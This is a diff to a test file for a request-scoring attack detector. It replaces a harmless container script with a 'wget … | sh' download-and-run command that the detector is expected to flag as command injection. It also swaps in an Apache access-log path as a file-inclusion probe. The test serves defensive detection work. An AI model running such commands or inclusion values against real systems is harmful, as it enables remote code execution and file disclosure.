@@ -49,8 +49,11 @@ describe('the shipped payload model (models/payload-v1)', () => {
     expect(mayCarryAttack('text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8')).toBe(false);
   });
 
-  it('leaves a Kubernetes container script alone while the same pipeline in a plain JSON field scores as command injection', async () => {
-    const script = 'cat /etc/config/app.yaml | envsubst > /tmp/app.yaml && exec /app/server';
+  it('leaves a Kubernetes container script alone while the same download-and-run in a plain JSON field scores as command injection', async () => {
+    // An init script fetched and piped to sh: a container's declared script, never scored; anywhere else, command injection.
+    // (payload-v1.2's example, `cat /etc/config/app.yaml | envsubst > /tmp/app.yaml && exec /app/server`, scores ~0 with
+    // payload-v1.3 in a plain field too, so it no longer shows what the script role does.)
+    const script = 'wget -qO- http://config.example/init.sh | sh; exec /app/server';
     const judge = async (body: string) =>
       (
         await createModelGate(model).evaluate(
@@ -94,7 +97,8 @@ describe('the shipped payload model (models/payload-v1)', () => {
           { hits: [], candidates: 0 },
         )
       ).maxScore;
-    const log = '/var/log/nginx/access.log';
+    // payload-v1.3 scores nginx's access log in an inclusion parameter at 0.45, below its point (v1.2: 0.91; the model card's limitations).
+    const log = '/var/log/apache2/access.log';
     expect(await judge('PATCH', '', JSON.stringify({ log_file: log, watch: ['.htaccess', '/etc/hosts'] }))).toBeLessThan(model.threshold);
     expect(await judge('GET', `q=${encodeURIComponent(log)}`)).toBeLessThan(model.threshold);
     expect(await judge('GET', `page=${encodeURIComponent(log)}`)).toBeGreaterThanOrEqual(model.threshold);
